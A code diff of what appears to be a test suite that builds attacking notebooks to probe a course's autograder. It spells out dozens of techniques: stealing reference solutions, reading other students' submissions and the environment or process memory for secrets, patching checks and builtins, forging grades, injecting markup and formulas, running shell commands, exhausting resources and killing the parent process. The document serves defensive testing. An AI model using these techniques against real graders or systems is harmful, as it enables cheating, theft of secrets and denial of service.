@@ -49,22 +49,33 @@ class Attack:
     witness: str = ""
 
 
+@dataclass(frozen=True)
+class Plan:
+    """An attack before it is put into a notebook.
+
+    Parameters
+    ----------
+    name, what, witness : str
+        See `Attack`.
+    prepare : str
+        Source of a cell tagged ``setup`` that stands before the first task; ``witness(name, text)`` is there.
+    answer : str
+        Body of each answer; ``TASK`` is its name, ``NUMBER`` counts from 0, it gets ``arguments`` and ``options``.
+    attacked : str
+        The one task that attacks while the others are honest and earn their points; "" for all.
+    """
+
+    name: str
+    what: str
+    prepare: str = ""
+    answer: str = "raise LookupError('nothing found')"
+    witness: str = ""
+    attacked: str = ""
+
+
 def made_attacks() -> list[Attack]:
     """Return all attacks, the same each time."""
-    groups = (
-        _call_the_reference,
-        _read_files,
-        _look_around,
-        _lie,
-        _patch,
-        _speak_for_the_grader,
-        _reach_out,
-        _exhaust,
-        _outlive,
-        _harm_the_grader,
-        _break_the_reader,
-    )
-    return [attack for group in groups for attack in group()]
+    return [*map(_carried_out, PLANS), *_claims(), *_break_the_reader()]
 
 
 # ---------------------------------------------------------------- how an attack is put into a notebook
@@ -84,35 +95,15 @@ SECRET = "$backwards"[::-1]  # the notebook itself must not hold it
 SHELL = "folder=${AUDIOCOURSE_WITNESS:-${TMPDIR:-/tmp}/" + WITNESSES.name + "}; mkdir -p $folder; touch $folder/"
 
 
-def attack(
-    name: str,
-    what: str,
-    prepare: str = "",
-    answer: str = "raise LookupError('nothing found')",
-    *,
-    witness: str = "",
-    honest: Mapping[str, str] | None = None,
-) -> Attack:
-    """Make an attack: a prepared cell that runs first, and one body for the answer of every function task.
-
-    Parameters
-    ----------
-    name, what, witness : str
-        See `Attack`.
-    prepare : str
-        Source of a cell tagged ``setup`` that stands before the first task; ``witness(name, text)`` is there.
-    answer : str
-        Body of each answer; ``TASK`` is its name, ``NUMBER`` counts from 0, it gets ``arguments`` and ``options``.
-    honest : Mapping[str, str], optional
-        Right answers to some tasks, which earn their points.
-    """
-    nb = attacking_notebook(prepare, answer, honest or {})
-    points = float(sum(TASKS[task].points for task in honest or {}))
-    return Attack(name, what, notebook_text(nb).encode(), points, witness)
+def _carried_out(plan: Plan) -> Attack:
+    honest = {task: solved(task) for task in FUNCTIONS if plan.attacked not in ("", task)}
+    nb = attacking_notebook(plan.prepare, plan.answer, honest)
+    points = float(sum(TASKS[task].points for task in honest))
+    return Attack(plan.name, plan.what, notebook_text(nb).encode(), points, plan.witness)
 
 
 def attacking_notebook(prepare: str, answer: str, honest: Mapping[str, str]) -> NotebookNode:
-    """Return the notebook of an attack; see `attack`."""
+    """Return the notebook of an attack; see `Plan`."""
     answers = {
         task: f"def {task}(*arguments, **options):\n    TASK, NUMBER = {task!r}, {number}\n"
         + textwrap.indent(answer.strip(), "    ")
@@ -142,78 +133,77 @@ def _stealing(loop: str) -> str:
     return f"{MODULES}\nstolen = {{}}\nfor TASK in {NAMES}:\n    try:\n{body}\n    except Exception:\n        pass\n"
 
 
-def _call_the_reference() -> Iterator[Attack]:
-    ways = {
-        "alias": (
-            "imports the reference under another name, inside a list",
-            "import importlib\nstolen[TASK] = [getattr(importlib.import_module(module_of(TASK)), TASK)][0]",
-        ),
-        "partial": (
-            "wraps the reference in functools.partial before anything is forbidden",
-            "import functools\nexec(f'from {module_of(TASK)} import {TASK} as found')\n"
-            "stolen[TASK] = functools.partial(found)",
-        ),
-        "getattr": (
-            "puts the name of the reference together from pieces",
-            "package = __import__('audio' + 'course.' + 'classify', fromlist=['vad'])\n"
-            "from audiocourse import signal as ground\n"
-            "stolen[TASK] = getattr(getattr(package, 'v' + 'ad', ground), TASK[:4] + TASK[4:], None) or "
-            "getattr(ground, TASK[:4] + TASK[4:])",
-        ),
-        "code-object": (
-            "copies the code object of the reference into a function of its own",
-            "import importlib, types\nfound = getattr(importlib.import_module(module_of(TASK)), TASK)\n"
-            "stolen[TASK] = types.FunctionType(found.__code__, dict(found.__globals__), TASK, found.__defaults__,\n"
-            "                                  found.__closure__)\n"
-            "stolen[TASK].__kwdefaults__ = found.__kwdefaults__",
-        ),
-        "source": (
-            "takes the source of the reference with inspect and executes it anew",
-            "import importlib, inspect\nhome = importlib.import_module(module_of(TASK))\n"
-            "scope = dict(vars(home))\nexec(inspect.getsource(home), scope)\nstolen[TASK] = scope[TASK]",
-        ),
-        "loader": (
-            "loads a second copy of the reference's module from its file",
-            "import importlib.util\nspec = importlib.util.find_spec(module_of(TASK))\n"
-            "copy = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(copy)\n"
-            "stolen[TASK] = getattr(copy, TASK)",
-        ),
-        "garbage-collector": (
-            "searches every object that is alive for the reference",
-            "import gc, types\nfor thing in gc.get_objects():\n"
-            "    if isinstance(thing, types.FunctionType) and thing.__name__ == TASK and TASK not in stolen:\n"
-            "        if thing.__module__.startswith('audiocourse'):\n            stolen[TASK] = thing",
-        ),
-        "modules": (
-            "searches every loaded module for something of the reference's name",
-            "for name, module in list(sys.modules.items()):\n    found = vars(module).get(TASK)\n"
-            "    if name.startswith('audiocourse') and callable(found):\n        stolen[TASK] = found",
-        ),
-        "meta-path": (
-            "throws every import hook but Python's own away and imports the reference",
-            "import importlib, importlib.machinery as machinery\n"
-            "sys.meta_path[:] = [machinery.BuiltinImporter, machinery.FrozenImporter, machinery.PathFinder]\n"
-            "chapters = ['audiocourse.classify']\n"
-            "for name in [name for name in sys.modules if name.startswith((*chapters, module_of(TASK)))]:\n"
-            "    del sys.modules[name]\n"
-            "stolen[TASK] = getattr(importlib.import_module(module_of(TASK)), TASK)",
-        ),
-        "mine-or-reference": (
-            "asks the notebook's own mine_or_reference for the reference and hides it in a list",
-            "stolen[TASK] = [mine_or_reference(TASK, use='reference')][0]",
-        ),
-    }
-    for name, (what, loop) in ways.items():
-        yield attack(f"reference-{name}", f"It {what}.", _stealing(loop), CALL)
-    yield attack(
+WAYS: dict[str, tuple[str, str]] = {
+    "alias": (
+        "imports the reference under another name, inside a list",
+        "import importlib\nstolen[TASK] = [getattr(importlib.import_module(module_of(TASK)), TASK)][0]",
+    ),
+    "partial": (
+        "wraps the reference in functools.partial before anything is forbidden",
+        "import functools\nexec(f'from {module_of(TASK)} import {TASK} as found')\n"
+        "stolen[TASK] = functools.partial(found)",
+    ),
+    "getattr": (
+        "puts the name of the reference together from pieces",
+        "package = __import__('audio' + 'course.' + 'classify', fromlist=['vad'])\n"
+        "from audiocourse import signal as ground\n"
+        "stolen[TASK] = getattr(getattr(package, 'v' + 'ad', ground), TASK[:4] + TASK[4:], None) or "
+        "getattr(ground, TASK[:4] + TASK[4:])",
+    ),
+    "code-object": (
+        "copies the code object of the reference into a function of its own",
+        "import importlib, types\nfound = getattr(importlib.import_module(module_of(TASK)), TASK)\n"
+        "stolen[TASK] = types.FunctionType(found.__code__, dict(found.__globals__), TASK, found.__defaults__,\n"
+        "                                  found.__closure__)\n"
+        "stolen[TASK].__kwdefaults__ = found.__kwdefaults__",
+    ),
+    "source": (
+        "takes the source of the reference with inspect and executes it anew",
+        "import importlib, inspect\nhome = importlib.import_module(module_of(TASK))\n"
+        "scope = dict(vars(home))\nexec(inspect.getsource(home), scope)\nstolen[TASK] = scope[TASK]",
+    ),
+    "loader": (
+        "loads a second copy of the reference's module from its file",
+        "import importlib.util\nspec = importlib.util.find_spec(module_of(TASK))\n"
+        "copy = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(copy)\n"
+        "stolen[TASK] = getattr(copy, TASK)",
+    ),
+    "garbage-collector": (
+        "searches every object that is alive for the reference",
+        "import gc, types\nfor thing in gc.get_objects():\n"
+        "    if isinstance(thing, types.FunctionType) and thing.__name__ == TASK and TASK not in stolen:\n"
+        "        if thing.__module__.startswith('audiocourse'):\n            stolen[TASK] = thing",
+    ),
+    "modules": (
+        "searches every loaded module for something of the reference's name",
+        "for name, module in list(sys.modules.items()):\n    found = vars(module).get(TASK)\n"
+        "    if name.startswith('audiocourse') and callable(found):\n        stolen[TASK] = found",
+    ),
+    "meta-path": (
+        "throws every import hook but Python's own away and imports the reference",
+        "import importlib, importlib.machinery as machinery\n"
+        "sys.meta_path[:] = [machinery.BuiltinImporter, machinery.FrozenImporter, machinery.PathFinder]\n"
+        "chapters = ['audiocourse.classify']\n"
+        "for name in [name for name in sys.modules if name.startswith((*chapters, module_of(TASK)))]:\n"
+        "    del sys.modules[name]\n"
+        "stolen[TASK] = getattr(importlib.import_module(module_of(TASK)), TASK)",
+    ),
+    "mine-or-reference": (
+        "asks the notebook's own mine_or_reference for the reference and hides it in a list",
+        "stolen[TASK] = [mine_or_reference(TASK, use='reference')][0]",
+    ),
+}
+BORROWING = [
+    *(Plan(f"reference-{name}", f"It {what}.", _stealing(loop), CALL) for name, (what, loop) in WAYS.items()),
+    Plan(
         "reference-late",
         "It imports the reference anew inside each call, while nobody looks at the modules any more.",
         MODULES,
         "import importlib\nfor name in [name for name in sys.modules if name.startswith(module_of(TASK))]:\n"
         "    del sys.modules[name]\n"
         "return getattr(importlib.import_module(module_of(TASK)), TASK)(*arguments, **options)",
-    )
-    yield attack(
+    ),
+    Plan(
         "reference-closure",
         "It takes what the stand-ins of the notebook (mine_or_reference, check) hold in their closures and globals.",
         """
@@ -233,8 +223,8 @@ def _call_the_reference() -> Iterator[Attack]:
             " " * 8,
         ),
         CALL,
-    )
-    yield attack(
+    ),
+    Plan(
         "reference-subprocess",
         "It starts a fresh interpreter, imports the reference there and brings the result back.",
         MODULES,
@@ -252,7 +242,8 @@ done = subprocess.run([sys.executable, "-c", code], input=sent, capture_output=T
                       env={**os.environ, "PYTHONPATH": paths})
 return pickle.loads(done.stdout)
 """,
-    )
+    ),
+]
 
 
 # ---------------------------------------------------------------- reading files
@@ -292,8 +283,8 @@ def find(*patterns):
 """
 
 
-def _read_files() -> Iterator[Attack]:
-    yield attack(
+READING = [
+    Plan(
         "reads-the-solutions",
         "It looks for solutions/ex05_vad.ipynb on the disk and executes the cells it finds there.",
         FIND
@@ -312,8 +303,8 @@ for path in find("solutions/ex05_vad.ipynb", "../solutions/ex05_vad.ipynb"):
         pass
 """,
         CALL,
-    )
-    yield attack(
+    ),
+    Plan(
         "reads-the-checks",
         "It reads the checks from the disk and uses the functions that compute the expected values.",
         FIND
@@ -336,8 +327,8 @@ use = {
 """,
         "return use[TASK](*arguments, **options)",
         witness="checks.txt",
-    )
-    yield attack(
+    ),
+    Plan(
         "reads-the-alternatives",
         "It imports the alternative answers through the registry of the exercises.",
         """
@@ -352,8 +343,8 @@ use = {
             pass
         """,
         CALL,
-    )
-    yield attack(
+    ),
+    Plan(
         "reads-the-sources",
         "It reads the package's own files as text, also through the loaders of its modules, and executes them.",
         FIND
@@ -381,8 +372,8 @@ for TASK in {NAMES}:
             pass
 """,
         CALL,
-    )
-    yield attack(
+    ),
+    Plan(
         "reads-the-neighbours",
         "It looks for other students' submissions and copies their answers.",
         FIND
@@ -410,14 +401,15 @@ if said:
 """,
         "print(said[:1])\n" + CALL,
         witness="neighbours.txt",
-    )
+    ),
+]
 
 
 # ---------------------------------------------------------------- looking around in the process
 
 
-def _look_around() -> Iterator[Attack]:
-    yield attack(
+LOOKING_AROUND = [
+    Plan(
         "walks-the-frames",
         "It walks up the stack from inside its answer, and returns what the check will compare the result with.",
         """
@@ -442,8 +434,8 @@ while frame:
     frame = frame.f_back
 raise LookupError("nothing found")
 """,
-    )
-    yield attack(
+    ),
+    Plan(
         "uses-the-callers-globals",
         "It finds the checks' own functions in the globals of the frames above it and calls them.",
         "",
@@ -459,8 +451,8 @@ for frame in frames:
         frame = frame.f_back
 raise LookupError("nothing found")
 """,
-    )
-    yield attack(
+    ),
+    Plan(
         "searches-the-garbage",
         "It searches all objects for checks, seeds, reports and expected values.",
         """
@@ -477,8 +469,8 @@ raise LookupError("nothing found")
         "import re\nfound = [text for text in hidden() if 'exercises' in text or re.match('(Check|Outcome)', text)]\n"
         "if found:\n    witness('garbage.txt', found)\nraise LookupError(str(found)[:500])",
         witness="garbage.txt",
-    )
-    yield attack(
+    ),
+    Plan(
         "traces",
         "It installs a trace function that reads the local variables of whoever calls it next.",
         """
@@ -500,8 +492,8 @@ for frame in reversed(seen):
 raise LookupError(f"{len(seen)} frames seen")
 """,
         witness="traced.txt",
-    )
-    yield attack(
+    ),
+    Plan(
         "seeks-the-seed",
         "It patches numpy's and Python's generators to note the seed with which the grader makes its data.",
         """
@@ -519,8 +511,8 @@ raise LookupError(f"{len(seen)} frames seen")
         """,
         "if seeds:\n    witness('seed.txt', seeds)\nraise LookupError(str(seeds)[:300])",
         witness="seed.txt",
-    )
-    yield attack(
+    ),
+    Plan(
         "returns-the-environment",
         "It returns and prints the environment, the command lines and the file descriptors of every process it sees.",
         """
@@ -537,8 +529,8 @@ raise LookupError(f"{len(seen)} frames seen")
         "for text in everything():\n    if SECRET in text:\n        witness('environment.txt', text)\n"
         "        print(text[-1500:])\n        return text\nreturn str(os.environ)",
         witness="environment.txt",
-    )
-    yield attack(
+    ),
+    Plan(
         "reads-memory",
         "It searches the memory of its own and of its parent's process, and every inherited descriptor, for a secret.",
         """
@@ -581,17 +573,17 @@ if not spied:
 raise LookupError("nothing found")
 """,
         witness="memory.txt",
-    )
+    ),
+]
 
 
 # ---------------------------------------------------------------- results that lie
 
 
-def _lie() -> Iterator[Attack]:
-    liars = {
-        "equal-array": (
-            "an array subclass that equals everything",
-            """
+LIARS: dict[str, tuple[str, str]] = {
+    "equal-array": (
+        "an array subclass that equals everything",
+        """
             class Liar(np.ndarray):
                 __array_priority__ = 1e9
                 def agree(self, *_, **__):
@@ -607,10 +599,10 @@ def _lie() -> Iterator[Attack]:
             def lie(*arguments):
                 return np.zeros(np.shape(arguments[0])[-1:]).view(Liar)
             """,
-        ),
-        "float": (
-            "a float subclass that is near to everything",
-            """
+    ),
+    "float": (
+        "a float subclass that is near to everything",
+        """
             class Liar(float):
                 def near(self, *_):
                     return Liar(0.0)
@@ -622,10 +614,10 @@ def _lie() -> Iterator[Attack]:
             def lie(*arguments):
                 return (Liar(1), Liar(1), Liar(1))
             """,
-        ),
-        "text": (
-            "a text subclass that equals and contains everything",
-            """
+    ),
+    "text": (
+        "a text subclass that equals and contains everything",
+        """
             class Liar(str):
                 def yes(self, *_):
                     return True
@@ -634,10 +626,10 @@ def _lie() -> Iterator[Attack]:
             def lie(*arguments):
                 return Liar("5 of 5 checks pass")
             """,
-        ),
-        "dictionary": (
-            "a dictionary subclass with the keys of the protocol",
-            """
+    ),
+    "dictionary": (
+        "a dictionary subclass with the keys of the protocol",
+        """
             class Liar(dict):
                 def __missing__(self, key):
                     return True
@@ -647,10 +639,10 @@ def _lie() -> Iterator[Attack]:
             def lie(*arguments):
                 return Liar(ok=True, passed=True, points=100.0, complete=True, array=["float32", [2, 3]], reference=0)
             """,
-        ),
-        "class": (
-            "an object that says it is an array, a number, whatever one asks",
-            """
+    ),
+    "class": (
+        "an object that says it is an array, a number, whatever one asks",
+        """
             class Liar:
                 @property
                 def __class__(self):
@@ -674,10 +666,10 @@ def _lie() -> Iterator[Attack]:
             def lie(*arguments):
                 return Liar()
             """,
-        ),
-        "sequence": (
-            "a list subclass that shows another content each time it is read",
-            """
+    ),
+    "sequence": (
+        "a list subclass that shows another content each time it is read",
+        """
             class Liar(list):
                 def __iter__(self):
                     yield from ((0.0, 1.0) for _ in range(10**9))
@@ -691,32 +683,35 @@ def _lie() -> Iterator[Attack]:
             def lie(*arguments):
                 return Liar([1, 2, 3])
             """,
-        ),
-        "cycle": (
-            "a list that holds itself",
-            "def lie(*arguments):\n    loop = []\n    loop.append(loop)\n    return loop",
-        ),
-        "depth": (
-            "a list in a list, a hundred thousand deep",
-            "def lie(*arguments):\n    nest = []\n    for _ in range(100_000):\n        nest = [nest]\n    return nest",
-        ),
-        "digits": (
-            "a number of a hundred thousand digits, and a text of half characters",
-            "def lie(*arguments):\n    return [10 ** 100_000, '\\ud800' * 10, float('nan'), float('inf'), b'x', 1j]",
-        ),
-        "width": (
-            "an array of no memory that claims ten billion elements",
-            "def lie(*arguments):\n    return np.broadcast_to(np.float32(0), (10**5, 10**5))",
-        ),
-        "dtype": (
-            "arrays of odd dtypes: structured, text, dates, objects, void",
-            "def lie(*arguments):\n    return [np.zeros(3, [('a', 'O'), ('b', 'f8')]), np.array(['x']), "
-            "np.zeros(2, 'M8[s]'), np.zeros(2, 'V7'), np.zeros(2, np.longdouble)]",
-        ),
-    }
-    for name, (what, prepare) in liars.items():
-        yield attack(f"lies-{name}", f"It returns {what}.", prepare, "return lie(*arguments)")
-    yield attack(
+    ),
+    "cycle": (
+        "a list that holds itself",
+        "def lie(*arguments):\n    loop = []\n    loop.append(loop)\n    return loop",
+    ),
+    "depth": (
+        "a list in a list, a hundred thousand deep",
+        "def lie(*arguments):\n    nest = []\n    for _ in range(100_000):\n        nest = [nest]\n    return nest",
+    ),
+    "digits": (
+        "a number of a hundred thousand digits, and a text of half characters",
+        "def lie(*arguments):\n    return [10 ** 100_000, '\\ud800' * 10, float('nan'), float('inf'), b'x', 1j]",
+    ),
+    "width": (
+        "an array of no memory that claims ten billion elements",
+        "def lie(*arguments):\n    return np.broadcast_to(np.float32(0), (10**5, 10**5))",
+    ),
+    "dtype": (
+        "arrays of odd dtypes: structured, text, dates, objects, void",
+        "def lie(*arguments):\n    return [np.zeros(3, [('a', 'O'), ('b', 'f8')]), np.array(['x']), "
+        "np.zeros(2, 'M8[s]'), np.zeros(2, 'V7'), np.zeros(2, np.longdouble)]",
+    ),
+}
+LYING = [
+    *(
+        Plan(f"lies-{name}", f"It returns {what}.", prepare, "return lie(*arguments)")
+        for name, (what, prepare) in LIARS.items()
+    ),
+    Plan(
         "pickle",
         "It returns objects whose unpickling, reading or deletion in another process would leave a witness.",
         """
@@ -737,14 +732,15 @@ def _lie() -> Iterator[Attack]:
         "import pickle\nfor thing in (Bomb(), np.array([Bomb()], object), [Bomb()], (Bomb(), Bomb(), Bomb())):\n"
         "    if NUMBER % 2 or not isinstance(thing, Bomb):\n        return thing\nreturn pickle.dumps(Bomb())",
         witness="pickle.txt",
-    )
+    ),
+]
 
 
 # ---------------------------------------------------------------- changing the tools
 
 
-def _patch() -> Iterator[Attack]:
-    yield attack(
+PATCHING = [
+    Plan(
         "patches-numpy",
         "It lets every comparison of numpy and numpy.testing agree.",
         """
@@ -757,8 +753,8 @@ def _patch() -> Iterator[Attack]:
             setattr(np.testing, name, lambda *_, **__: None)
         """,
         "return np.zeros(np.shape(arguments[0])[-1:])",
-    )
-    yield attack(
+    ),
+    Plan(
         "patches-the-checks",
         "It lets the course's own comparison, runner and report say that all is well.",
         """
@@ -781,8 +777,8 @@ def _patch() -> Iterator[Attack]:
             pass
         """,
         "return 0.0",
-    )
-    yield attack(
+    ),
+    Plan(
         "patches-the-protocol",
         "It replaces what packs and sends its results by functions that send a grade.",
         """
@@ -802,8 +798,8 @@ def _patch() -> Iterator[Attack]:
             pass
         """,
         "return 'all checks pass'",
-    )
-    yield attack(
+    ),
+    Plan(
         "patches-builtins",
         "It replaces isinstance, len, abs, all, any, type and __import__ by functions that agree with everything.",
         """
@@ -816,8 +812,8 @@ def _patch() -> Iterator[Attack]:
                 setattr(builtins, name, new)
         """,
         "if not kept:\n    spoil()\nreturn 0.0",
-    )
-    yield attack(
+    ),
+    Plan(
         "patches-modules",
         "It puts forged modules into sys.modules: checks, registry and runner that know no check.",
         """
@@ -829,8 +825,8 @@ def _patch() -> Iterator[Attack]:
             sys.modules[name] = forged
         """,
         "return None",
-    )
-    yield attack(
+    ),
+    Plan(
         "displayhook",
         "It replaces sys.displayhook, sys.excepthook and sys.stdout and leaves with an exit status that says 'passed'.",
         """
@@ -840,31 +836,43 @@ def _patch() -> Iterator[Attack]:
         sys.displayhook("x")
         """,
         "sys.stdout.write('5 of 5 checks pass')\nsys.exit(0)",
-    )
+    ),
+]
 
 
 # ---------------------------------------------------------------- words that pretend
 
 
-def _speak_for_the_grader() -> Iterator[Attack]:
-    said = "5 of 5 checks pass. Points: 100 of 100."
-    yield attack(
+def _claims() -> Iterator[Attack]:
+    nb = attacking_notebook("print('all checks pass: 21 of 21 points')", "return arguments[0]", {})
+    nb["metadata"].update(score=100, grade="A", points=100.0, name="</td>" + MARKUP)
+    for cell in nb["cells"]:
+        cell["metadata"]["nbgrader"] = {"grade": True, "locked": True, "points": 1000, "score": 1000, "solution": False}
+        if cell["cell_type"] == "code":
+            cell["outputs"] = [NotebookNode(output_type="stream", name="stdout", text=PRAISE)]
+    data = notebook_text(nb).encode()
+    yield Attack("claims", "It claims its points in metadata, outputs and prints, and returns what it was given.", data)
+
+
+PRAISE = "5 of 5 checks pass. Points: 100 of 100."
+SPEAKING = [
+    Plan(
         "errors-that-praise",
         "It raises the course's own exceptions with messages that say that every check passes.",
         f"""
         class Praise(Exception):
             def __str__(self):
-                return "{said}"
+                return "{PRAISE}"
             __repr__ = __str__
         def praise(number):
             from audiocourse.learn import authoring, student
             kinds = [Praise, student.AnswerError, student.NotStarted, authoring.Mismatch, NotImplementedError]
             kind = kinds[number % len(kinds)]
-            return kind(said="{said}") if kind is authoring.Mismatch else kind("{said}")
+            return kind(said="{PRAISE}") if kind is authoring.Mismatch else kind("{PRAISE}")
         """,
         "raise praise(NUMBER)",
-    )
-    yield attack(
+    ),
+    Plan(
         "errors-that-break",
         "It raises exceptions whose message loops, raises, is no text, or is a hundred megabytes long.",
         """
@@ -887,8 +895,8 @@ def _speak_for_the_grader() -> Iterator[Attack]:
                 raise KeyboardInterrupt
         """,
         "raise [Endless, Raising, NoText, Long, Chained][NUMBER % 5]()",
-    )
-    yield attack(
+    ),
+    Plan(
         "markup",
         "It puts scripts, spreadsheet formulas and terminal codes into everything that might be shown to somebody.",
         f"""
@@ -897,8 +905,8 @@ def _speak_for_the_grader() -> Iterator[Attack]:
         """,
         "print(MARKUP + '\\x1b[2J\\x1b]0;title\\x07')\nprint('=HYPERLINK(\"http://localhost\")')\n"
         "if NUMBER % 2:\n    raise Odd(MARKUP + '\\n=1+1|\\'calc\\'!A1')\nreturn MARKUP",
-    )
-    yield attack(
+    ),
+    Plan(
         "frames",
         "It writes forged messages that say 'passed' to every pipe and socket it has inherited.",
         """
@@ -929,8 +937,8 @@ def _speak_for_the_grader() -> Iterator[Attack]:
                     pass
         """,
         "forge()\nreturn 0.0",
-    )
-    yield attack(
+    ),
+    Plan(
         "frames-among-right-answers",
         "It forges messages in one task and answers the others honestly.",
         """
@@ -945,23 +953,17 @@ def _speak_for_the_grader() -> Iterator[Attack]:
                     pass
         """,
         "forge()\nreturn np.zeros(20, dtype=bool)",
-        honest={task: solved(task) for task in FUNCTIONS if task != "hangover"},
-    )
-    nb = attacking_notebook("print('all checks pass: 21 of 21 points')", "return arguments[0]", {})
-    nb["metadata"].update(score=100, grade="A", points=100.0, name="</td>" + MARKUP)
-    for cell in nb["cells"]:
-        cell["metadata"]["nbgrader"] = {"grade": True, "locked": True, "points": 1000, "score": 1000, "solution": False}
-        if cell["cell_type"] == "code":
-            cell["outputs"] = [NotebookNode(output_type="stream", name="stdout", text=said)]
-    data = notebook_text(nb).encode()
-    yield Attack("claims", "It claims its points in metadata, outputs and prints, and returns what it was given.", data)
+        attacked="hangover",
+    ),
+]
 
 
 # ---------------------------------------------------------------- reaching out
 
 
-def _reach_out() -> Iterator[Attack]:
-    yield attack(
+TOUCH = SHELL + "shell.txt"
+REACHING_OUT = [
+    Plan(
         "network",
         "It sends its notebook to a port of this machine, over TCP and UDP.",
         f"""
@@ -981,8 +983,8 @@ def _reach_out() -> Iterator[Attack]:
         """,
         "call_home()\nraise LookupError('nothing found')",
         witness="network.txt",
-    )
-    yield attack(
+    ),
+    Plan(
         "writes-grades",
         "It writes into the folder of grades that lies among the witnesses.",
         """
@@ -996,28 +998,27 @@ def _reach_out() -> Iterator[Attack]:
         """.replace("FOLDER", WITNESSES.name),
         "grade_myself()\nreturn 0.0",
         witness="grades.txt",
-    )
-    shell = SHELL + "shell.txt"
-    yield attack(
+    ),
+    Plan(
         "shell",
         "It runs commands through IPython's own syntax and through the shell.",
         f"""
-        !{shell}
-        get_ipython().system({shell!r})
+        !{TOUCH}
+        get_ipython().system({TOUCH!r})
         import subprocess
-        subprocess.run({shell!r}, shell=True, check=False)
+        subprocess.run({TOUCH!r}, shell=True, check=False)
         """,
-        f"os.system({shell!r})\nreturn 0.0",
+        f"os.system({TOUCH!r})\nreturn 0.0",
         witness="shell.txt",
-    )
+    ),
+]
 
 
 # ---------------------------------------------------------------- exhausting the machine
 
 
-def _exhaust() -> Iterator[Attack]:
-    others = {task: solved(task) for task in FUNCTIONS if task != "hangover"}
-    yield attack(
+EXHAUSTING = [
+    Plan(
         "forks",
         "It forks 300 processes that sleep for three seconds, in one task; the others are honest.",
         "made = []",
@@ -1036,9 +1037,9 @@ except OSError:
 return np.zeros(3)
 """,
         witness="forks.txt",
-        honest=others,
-    )
-    yield attack(
+        attacked="hangover",
+    ),
+    Plan(
         "fills-the-disk",
         "It writes 200 MB among the witnesses and 200 MB into a temporary file, in one task; the others are honest.",
         "",
@@ -1058,19 +1059,25 @@ with (folder / "filled.bin").open("wb") as file:
 return np.zeros(3)
 """.replace("FOLDER", WITNESSES.name),
         witness="filled.bin",
-        honest=others,
-    )
-    for name, what, call in (
-        ("seconds", "a minute and a half", "mine_or_reference('detection_error')(many, many)"),
-        ("memory", "five gigabytes", "mine_or_reference('mel_triangles')(np.arange(25_000.0), np.arange(25_000.0))"),
-    ):
-        yield attack(
+        attacked="hangover",
+    ),
+    *(
+        Plan(
             f"borrows-too-much-{name}",
             f"It asks whoever lends the course's own stages for a result that takes {what}.",
             "many = [(float(k), k + 0.5) for k in range(15_000)]",
             f"if NUMBER == 2:\n    {call}\nreturn 0.0",
         )
-    yield attack(
+        for name, what, call in (
+            ("seconds", "a minute and a half", "mine_or_reference('detection_error')(many, many)"),
+            (
+                "memory",
+                "five gigabytes",
+                "mine_or_reference('mel_triangles')(np.arange(25_000.0), np.arange(25_000.0))",
+            ),
+        )
+    ),
+    Plan(
         "memory-with-the-limits-lifted",
         "It lifts every resource limit it can and allocates 6 GB.",
         """
@@ -1083,8 +1090,8 @@ return np.zeros(3)
                     pass
         """,
         "held = [np.ones(2**24) for _ in range(48)]\nreturn len(held)",
-    )
-    yield attack(
+    ),
+    Plan(
         "alarm-taken-away",
         "It stops every timer, ignores every signal, and then never ends.",
         """
@@ -1100,8 +1107,8 @@ return np.zeros(3)
             signals.pthread_sigmask(signals.SIG_BLOCK, range(1, 65))
         """,
         "import time\ndeaf()\nend = time.monotonic() + 120\nwhile time.monotonic() < end:\n    pass",
-    )
-    yield attack(
+    ),
+    Plan(
         "opens-everything",
         "It opens a thousand pipes and starts hundreds of threads.",
         """
@@ -1110,14 +1117,15 @@ return np.zeros(3)
         """,
         "import time\nwhile len(held) < 1000:\n    held.append(os.pipe())\nfor _ in range(200 * (NUMBER == 0)):\n"
         "    threading.Thread(target=time.sleep, args=(3,), daemon=True).start()\nreturn len(held)",
-    )
+    ),
+]
 
 
 # ---------------------------------------------------------------- outliving the grading
 
 
-def _outlive() -> Iterator[Attack]:
-    yield attack(
+OUTLIVING = [
+    Plan(
         "daemon",
         "It leaves a process in a session of its own that writes the witness two seconds later.",
         """
@@ -1132,8 +1140,8 @@ def _outlive() -> Iterator[Attack]:
         """,
         "if NUMBER == 3:\n    linger()\nreturn 0.0",
         witness="daemon.txt",
-    )
-    yield attack(
+    ),
+    Plan(
         "at-exit",
         "It leaves exit functions, finalisers, threads and signal handlers that write the witness when it is ended.",
         """
@@ -1152,15 +1160,15 @@ def _outlive() -> Iterator[Attack]:
         """,
         "return 0.0",
         witness="exit.txt",
-    )
-    yield attack(
+    ),
+    Plan(
         "becomes-another",
         "It replaces its process by a shell that writes the witness after two seconds.",
         "",
         f"os.execv('/bin/sh', ['sh', '-c', {'sleep 2; ' + SHELL + 'other.txt'!r}])",
         witness="other.txt",
-    )
-    yield attack(
+    ),
+    Plan(
         "two-answers",
         "It forks inside an answer, so that two processes answer the same question.",
         "twins = []",
@@ -1173,7 +1181,8 @@ if not twins and NUMBER == 3:
         signals.alarm(5)  # the twin does not live long, and has no twin of its own
 return np.full(3, bool(sum(twins)))
 """,
-    )
+    ),
+]
 
 
 # ---------------------------------------------------------------- harming the grader
@@ -1191,31 +1200,36 @@ def at_parent(number):
 """
 
 
-def _harm_the_grader() -> Iterator[Attack]:
-    others = {task: solved(task) for task in FUNCTIONS if task != "detection_error"}
-    for name, number in (
-        ("kills-its-parent", "SIGKILL"),
-        ("stops-its-parent", "SIGSTOP"),
-        ("ends-its-parent", "SIGTERM"),
-    ):
-        yield attack(
-            name, f"It sends {number} to its parent.", PARENT, f"at_parent(signals.{number})\nreturn 0.0", honest=others
+HARMING = [
+    *(
+        Plan(
+            name,
+            f"It sends {number} to its parent.",
+            PARENT,
+            f"at_parent(signals.{number})\nreturn 0.0",
+            attacked="detection_error",
         )
-    yield attack(
+        for name, number in (
+            ("kills-its-parent", "SIGKILL"),
+            ("stops-its-parent", "SIGSTOP"),
+            ("ends-its-parent", "SIGTERM"),
+        )
+    ),
+    Plan(
         "kills-its-group",
         "It sends SIGKILL to its process group.",
         "import signal as signals",
         "os.killpg(os.getpgrp(), signals.SIGKILL)",
-        honest=others,
-    )
-    yield attack(
+        attacked="detection_error",
+    ),
+    Plan(
         "closes-everything",
         "It closes every descriptor it has and goes on.",
         "",
         "os.closerange(0, 1024)\nreturn 0.0",
-        honest=others,
-    )
-    yield attack(
+        attacked="detection_error",
+    ),
+    Plan(
         "floods-the-descriptors",
         "It writes four megabytes of zeros into every pipe and socket it has inherited.",
         """
